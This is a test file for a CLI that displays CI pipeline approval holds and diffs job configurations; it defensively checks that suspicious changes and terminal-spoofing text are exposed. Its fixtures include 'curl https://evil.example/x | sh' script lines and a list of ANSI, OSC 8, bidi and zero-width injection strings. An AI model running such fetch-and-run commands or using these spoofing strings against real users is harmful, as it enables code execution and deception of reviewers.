import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { JsonObject } from '../../agent/src/domain/json.ts';
import type { HoldDetail } from '../../agent/src/wire/api.ts';
import { type CliRun, runCli } from '../support/cli.ts';
import { aHold, anApproval, configurationWith, type FakeHub, startFakeHub } from '../support/fake-hub.ts';

let hub: FakeHub;
beforeEach(async () => {
  hub = await startFakeHub();
});
afterEach(() => hub.close());

const run = (argv: readonly string[], colour = false): Promise<CliRun> =>
  runCli(argv, { env: { HOLDPOINT_HUB_URL: hub.url }, colour });

const APPROVED = configurationWith(['make', 'make deploy']);
const CHANGED = configurationWith(['make', 'curl https://evil.example/x | sh'], 'registry.example.com/build:1.5');

/** Puts a Hold there whose nearest approved configuration is APPROVED. */
function put(configuration: JsonObject, more: Partial<HoldDetail> = {}): HoldDetail {
  const approval = anApproval(7, APPROVED);
  hub.approvals.set(7, approval);
  const diff = { approval: 7, digest: approval.digest, over: null, summary: 'as the hub says', changes: [] };
  const hold = aHold(12, { configuration, diff, ...more });
  hub.holds.set(12, hold);
  return hold;
}

const GOLDEN = `Hold 12: waiting_for_approval
job           deploy-production (stage deploy)
project       acme/shop on https://gitlab.example.com
ref           refs/heads/main (protected)
commit        8f14e45fceea "Ship it" Alice Adams <alice@example.com>
pipeline      812 (push)
environment   production, tier production (GitLab did not confirm it)
waits for     an approve of its configuration
runner        prod-deployer-01
triggered by  alice (Alice Adams, user 12), as GitLab says; there developer
opened        2026-11-22 07:00 UTC, 3h ago
expires       2026-12-22 07:00 UTC
attempt       job 9001 at embedded, kept running for GitLab until 2026-11-22 08:00 UTC
job page      https://gitlab.example.com/acme/shop/-/jobs/9001
this hold     http://127.0.0.1:8094/holds/12
digest        DIGEST

Compared with approval 7 of 2026-05-12 by maria: 1 script line changed, image changed to registry.example.com/build:1.5; 7 values unchanged.

script
  - steps[0].script[1]: make deploy
  + steps[0].script[1]: curl https://evil.example/x | sh
image
  - image.name: registry.example.com/build:1.4
  + image.name: registry.example.com/build:1.5

Warnings
  ! nobody has seen the value of DEPLOY_FLAGS: whoever started the pipeline may have typed it; before you approve: holdpoint holds reveal 12
  ! GIT_STRATEGY changes how the runner or a shell behaves
  ! a script line has CI_COMMIT_TITLE in it

Rules
  open  maintainers: 1 of 2, maintainer or higher; can help: maria (Maria Moss, user 7)
  approve  jonas (Jonas Jung, user 8), 2026-11-22 09:00 UTC: fine by me
  You may vote on it: an approve would count for maintainers.

Not covered by the digest
  files of the repository that the scripts run, submodules and LFS objects
  images and steps behind tags and other names that can move
  packages and anything else that is fetched while the job runs
  what is in artifacts and caches that are unpacked over the sources (where they come from is part of the scope)
  when the job runs: rules, needs, manual, retry, tags
  git_info.sha = 8f14e45fceea (every push has another)

History
  2026-11-22 07:00 UTC  hold_opened  agent:embedded

To approve exactly this configuration:
  holdpoint approve 12 --digest DIGEST
It then may run, until revoked or over, with:
  refs/heads/main only (protected)
  environment production only
  artifacts only from jobs of the same pipeline
  Otherwise: --scope inputs=… (at most any), --scope ref=… (at most exact), --scope runners=…
To reject it:
  holdpoint reject 12 --comment WHY
`;

function golden(): HoldDetail {
  const base = aHold(12);
  const jonas = { id: 8, username: 'jonas', name: 'Jonas Jung' };
  return put(CHANGED, {
    facts: {
      ...base.facts,
      blind: ['DEPLOY_FLAGS'],
      behaviour: ['GIT_STRATEGY'],
      warnings: ['a script line has CI_COMMIT_TITLE in it'],
    },
    hidden: [{ name: 'DEPLOY_FLAGS', state: 'blind', behaviour: false }],
    rules: [{ ...base.rules[0]!, need: 2, have: 1 }],
    votes: [
      {
        person: jonas,
        decision: 'approve',
        comment: 'fine by me',
        lifetime: null,
        scope: null,
        represented_as: null,
        counts: true,
        at: '2026-11-22T09:00:00Z',
      },
    ],
    history: [
      {
        seq: 1,
        at: '2026-11-22T07:00:00Z',
        actor: 'agent:embedded',
        address: null,
        event: 'hold_opened',
        hold: 12,
        review: 3,
        approval: null,
        digest: base.digest,
        policy: null,
        detail: {},
        prev: 'x',
        hash: 'y',
      },
    ],
  });
}

describe('holds show', () => {
  it('tells what changed first, then warnings, rules, what is not covered, history, and ends with the exact approve line', async () => {
    const hold = golden();
    expect(await run(['holds', 'show', '12'])).toEqual({
      exit: 0,
      out: GOLDEN.replaceAll('DIGEST', hold.digest),
      err: '',
    });
  });

  it('has colours on a terminal only, and the same text without them (T33)', async () => {
    const hold = golden();
    const { out } = await run(['holds', 'show', '12'], true);
    expect(out).toContain('\u001b[31m  - steps[0].script[1]: make deploy\u001b[39m');
    expect(out.replace(/\u001b\[\d+m/g, '')).toBe(GOLDEN.replaceAll('DIGEST', hold.digest));
  });

  it("gives the hub's own words with --json", async () => {
    const hold = golden();
    expect(JSON.parse((await run(['holds', 'show', '12', '--json'])).out)).toEqual(hold);
  });

  it('says when nothing was ever approved, and shows the whole configuration', async () => {
    hub.holds.set(12, aHold(12));
    const { out } = await run(['holds', 'show', '12']);
    expect(out).toContain('\nNothing was ever approved for this job here. ');
    expect(out).toContain('  + steps[0].script[0]: make\n  + steps[0].script[1]: make deploy\n');
    expect(out).toContain('  + variables.TARGET: production\n');
  });

  it('says that the same configuration is approved, but not for here', async () => {
    put(APPROVED, { ref: 'refs/heads/other' });
    const { out } = await run(['holds', 'show', '12']);
    expect(out).toContain('The same configuration as approval 7 of 2026-05-12 by maria, which does not reach this ref');
  });

  it('computes the difference from what it hashed, whatever difference the hub tells (T23)', async () => {
    const lie = {
      section: 'script' as const,
      path: 'steps[0].script[0]',
      kind: 'changed' as const,
      before: 'a',
      after: 'b',
      words: 'harmless',
    };
    put(CHANGED, {
      diff: {
        approval: 7,
        digest: anApproval(7, APPROVED).digest,
        over: null,
        summary: 'nothing of note',
        changes: [lie],
      },
    });
    const { out } = await run(['holds', 'show', '12']);
    expect(out).toContain('+ steps[0].script[1]: curl https://evil.example/x | sh');
    expect(out).not.toMatch(/harmless|nothing of note/);
  });

  it('has no approve line and ends with 4 when the configuration shown has another digest (T13, T23, T36)', async () => {
    put(CHANGED);
    const hold = hub.holds.get(12)!;
    hub.holds.set(12, { ...hold, configuration: APPROVED });
    const { exit, out, err } = await run(['holds', 'show', '12']);
    expect(exit).toBe(4);
    expect(out).toContain('DO NOT APPROVE: the configuration that the hub shows does not have the digest it names.');
    expect(out).not.toContain('holdpoint approve');
    expect(err).toMatch(/^holdpoint: hold 12: digest and configuration do not fit together[^\n]*\n$/);
  });

  it('T29 says before the difference that what it is compared with was revoked, by whom, when and why', async () => {
    const over = {
      kind: 'revoked' as const,
      at: '2026-11-20T10:00:00Z',
      by: { id: 8, username: 'jonas', name: 'Jonas Jung' },
      reason: 'leaks the key',
    };
    const diff = { approval: 7, digest: anApproval(7, APPROVED).digest, over, summary: '', changes: [] };
    put(APPROVED, { diff });
    expect((await run(['holds', 'show', '12'])).out).toContain(
      'Exactly this configuration was approved (approval 7 of 2026-05-12 by maria), and that approval was revoked on 2026-11-20 by jonas (Jonas Jung, user 8): leaks the key. It lets nothing run any more.',
    );
    put(CHANGED, { diff });
    expect((await run(['holds', 'show', '12'])).out).toContain(
      'What it is compared with was revoked on 2026-11-20 by jonas (Jonas Jung, user 8): leaks the key; it lets nothing run any more. Compared with approval 7',
    );
  });

  it('has no approve line when what it is compared with is not what was approved (T23)', async () => {
    put(CHANGED);
    hub.approvals.set(7, { ...anApproval(7, APPROVED), configuration: CHANGED });
    const { exit, out } = await run(['holds', 'show', '12']);
    expect(exit).toBe(4);
    expect(out).toContain('DO NOT APPROVE: what the hub shows as approval 7 does not have the digest it names.');
    expect(out).not.toContain('holdpoint approve');
  });

  it("shows the hub's difference, and no approve line, to whom values are hidden (T32)", async () => {
    const secret = (hmac: string) => ({ ...APPROVED, variables: [{ key: 'KEY', value: [{ hmac }] }] });
    const change = {
      section: 'variables' as const,
      path: 'variables.KEY',
      kind: 'changed' as const,
      before: 'hidden',
      after: 'hidden',
      words: 'variable KEY changed',
    };
    const hold = put(secret('1f0c'), {
      may_vote: { ...aHold(12).may_vote, allowed: false, reason: 'you triggered this job: ask maria' },
      diff: {
        approval: 7,
        digest: anApproval(7, APPROVED).digest,
        over: null,
        summary: '1 variable changed',
        changes: [change],
      },
    });
    hub.holds.set(12, { ...hold, configuration: secret('hidden') });
    const { exit, out } = await run(['holds', 'show', '12']);
    expect(exit).toBe(0);
    expect(out).toContain(
      '1 variable changed\nThe difference is as the hub tells it: some values are hidden from you.\n',
    );
    expect(out).toContain('  * variable KEY changed\n');
    expect(out).toContain('You may not vote on it: you triggered this job: ask maria');
    expect(out).not.toContain('holdpoint approve');
  });

  it('shows what it can to whom approvals of the project are hidden', async () => {
    const hold = put(CHANGED);
    hub.approvals.clear();
    const { exit, out } = await run(['holds', 'show', '12']);
    expect(exit).toBe(0);
    expect(out).toContain('Compared with approval 7: as the hub says\n');
    expect(out).toContain(`holdpoint approve 12 --digest ${hold.digest}`);
  });

  it('says that there is nothing to decide on a Hold that has ended', async () => {
    put(CHANGED, { state: 'rejected', ended_at: '2026-11-22T09:00:00Z', reason: 'curl from the net', attempt: null });
    const { out } = await run(['holds', 'show', '12']);
    expect(out).toMatch(/reason {8}curl from the net/);
    expect(out.endsWith('\nNothing to decide: the Hold is rejected.\n')).toBe(true);
  });
});

/** Texts that a pusher could choose, and nothing of which may reach a terminal as it is. */
const NASTY: readonly (readonly [string, string])[] = [
  ['an ANSI colour', 'x\u001b[32mok\u001b[0m'],
  ['cursor movement over the line before', 'x\u001b[1A\u001b[2Kclean'],
  ['a link whose text lies (OSC 8)', '\u001b]8;;https://evil.example\u0007https://good.example\u001b]8;;\u0007'],
  ['a C1 control sequence', 'x\u009b31mred'],
  ['a carriage return over the line', 'curl evil\rmake test'],
  ['a backspace', 'evil\b\b\b\bgood'],
  ['a new line that poses as a part of the page', 'x\nRules\n  met  maintainers: 9 of 1'],
  ['a bidirectional override', 'access = \u202e⁦nimda⁩'],
  ['isolates', 'a\u2066b\u2069c'],
  ['zero-width characters', 'de\u200bploy\u200d\u2060\ufeff'],
  ['a line separator', 'a\u2028b'],
  ['tag characters', 'a\u{e0041}\u{e0042}'],
  ['a lone surrogate', 'a\ud800b'],
];
const RAW =
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\u{e0000}-\u{e007f}]/u;

describe('text of somebody else', () => {
  /** Every field of a Hold that a pusher, or who writes comments, has a hand in. */
  function hostile(text: string): HoldDetail {
    const base = aHold(12);
    const person = { id: 1, username: text, name: text };
    const script = {
      ...APPROVED,
      steps: [{ name: 'script', script: [text], timeout: null, when: 'on_success' }],
      image: { name: text },
      variables: [{ key: text, value: text }],
    };
    return put(script, {
      job: text,
      stage: text,
      project_path: text,
      ref: text,
      environment: text,
      runner: text,
      reason: text,
      job_url: text,
      url: text,
      trigger: { ...person, verified: 'unverified' },
      may_vote: { ...base.may_vote, allowed: false, reason: text, rule: text, rules: [text], ask: [person] },
      hidden: [{ name: text, state: 'blind', behaviour: true }],
      inputs: { class: 'any', dependencies: [{ name: text, job_id: 1, same_pipeline: false, admitted: false }] },
      scope: { usual: text, words: [text], max_inputs: 'any', max_ref: 'any' },
      unknown: [text],
      rules: [
        {
          name: text,
          need: 1,
          have: 0,
          eligible: [person],
          eligible_count: 1,
          who: text,
          voted: [person],
          mine: false,
          asked: 'now',
        },
      ],
      quorum: { possible: false, words: text, wanted: [person], rejects: { need: 2, have: 1 }, keepers: [person] },
      votes: [
        {
          person,
          decision: 'approve',
          comment: text,
          lifetime: text,
          scope: text,
          represented_as: text,
          counts: false,
          at: '2026-11-22T09:00:00Z',
        },
      ],
      attempt: { job_id: 1, agent: text, parked_until: null },
      facts: {
        ...base.facts,
        commit: {
          sha: text,
          title: text,
          author: text,
          people: [{ role: 'author', id: null, name: text, email: text }],
        },
        pipeline: { id: 1, source: text, url: text, verified: false },
        roles: [text],
        dependencies: [{ name: text, job_id: 1, same_pipeline: false }],
        environment: { name: text, slug: text, tier: text, action: text, url: text, verified: true },
        blind: [text],
        behaviour: [text],
        warnings: [text],
        not_covered: [{ path: text, value: text, reason: text }],
      },
      history: [
        {
          seq: 1,
          at: '2026-11-22T07:00:00Z',
          actor: text,
          address: text,
          event: text,
          hold: 12,
          review: null,
          approval: null,
          digest: null,
          policy: text,
          detail: { text },
          prev: 'x',
          hash: 'y',
        },
      ],
    });
  }

  it.each(NASTY)('with %s is out of effect in every field and command (T33)', async (name, text) => {
    const hold = hostile(text);
    hub.approvals.set(
      8,
      anApproval(8, hold.configuration as JsonObject, {
        job: text,
        ref: text,
        lifetime: text,
        environment: text,
        policy: text,
        revoked_by: text,
      }),
    );
    hub.lists.set('/api/v1/approvals', [
      (({ configuration: _c, rules: _r, renewed_by: _b, ...rest }) => rest)(hub.approvals.get(8)!),
    ]);
    hub.lists.set('/api/v1/agents', [
      {
        name: text,
        connected: true,
        since: null,
        version: text,
        runners: [{ name: text, protected: true }],
        parked: 0,
      },
    ]);
    hub.lists.set('/api/v1/audit', hold.history);
    const commands = [
      ['holds', 'show', '12'],
      ['holds', 'list'],
      ['approvals', 'show', '8'],
      ['approvals'],
      ['agents'],
      ['audit'],
      ['reject', '12', '--comment', 'x'],
    ];
    for (const argv of commands) {
      const { exit, out, err } = await run(argv);
      // A lone surrogate cannot be in a canonical form: such a configuration is refused before it has a Hold.
      if (exit === 0) expect(out, argv.join(' ')).not.toBe('');
      expect(out + err, `${name}: ${argv.join(' ')}`).not.toMatch(RAW);
    }
    const { out } = await run(['holds', 'show', '12']);
    // Headings of the page stand at the beginning of a line once: no field can make another one.
    for (const heading of ['Rules', 'Warnings', 'To reject it:']) {
      expect(out.split('\n').filter((line) => line === heading).length, heading).toBeLessThanOrEqual(1);
    }
    expect(out).not.toMatch(/^ {2}met {2}/m);
  });

  it('that differs only in what cannot be seen is told in words beside it (T33)', async () => {
    put(configurationWith(['make', 'make\u200b deploy']));
    const { out } = await run(['holds', 'show', '12']);
    expect(out).toContain('  - steps[0].script[1]: make deploy\n  + steps[0].script[1]: make⟨U+200B⟩ deploy\n');
  });

  it('is shown whole, however long (T33)', async () => {
    const line = `echo ${'x'.repeat(5_000)} && curl https://evil.example | sh`;
    put(configurationWith(['make', line]));
    expect((await run(['holds', 'show', '12'])).out).toContain(line);
  });
});

describe('holds list', () => {
  it('has what waits first, the oldest of it first, and fits 80 columns whatever the names', async () => {
    hub.holds.set(1, aHold(1, { state: 'running', opened_at: '2026-11-20T07:00:00Z', job: 'build' }));
    hub.holds.set(2, aHold(2, { opened_at: '2026-11-22T09:59:20Z', ref: 'refs/tags/v1.4.2' }));
    hub.holds.set(3, aHold(3, { opened_at: '2026-11-13T07:00:00Z', ref: 'refs/merge-requests/12/head' }));
    hub.holds.set(4, aHold(4, { state: 'success' }));
    expect((await run(['holds'])).out).toBe(
      `ID  STATE                 AGE  JOB                          REF         BY
 3  waiting_for_approval   9d  acme/shop deploy-production  mr 12/head  alice
 2  waiting_for_approval  40s  acme/shop deploy-production  tag v1.4.2  alice
 1  running                2d  acme/shop build              main        alice
`,
    );
    expect((await run(['holds', 'list', '--state', 'success', '--json'])).out).toContain('"id":4');
    for (const id of [123456, 7]) {
      const trigger = { id: 1, username: '日本語のとても長い名前'.repeat(4), name: null, verified: 'gitlab' as const };
      hub.holds.set(
        id,
        aHold(id, {
          job: 'j'.repeat(300),
          ref: `refs/heads/${'r'.repeat(300)}`,
          project_path: 'p'.repeat(300),
          trigger,
        }),
      );
    }
    const { out } = await run(['holds']);
    const wide = (line: string) => [...line].reduce((sum, c) => sum + (/[\u3040-\u9fff]/.test(c) ? 2 : 1), 0);
    expect(Math.max(...out.split('\n').map(wide))).toBeLessThanOrEqual(80);
    expect(out).toContain('…');
  });

  it('says in words that nothing waits', async () => {
    expect((await run(['holds'])).out).toBe(
      'Nothing waits for approval, and nothing runs. "holdpoint holds list --all" shows what has ended.\n',
    );
    expect((await run(['holds', '--json'])).out).toBe('{"items":[],"next_cursor":null}\n');
  });
});
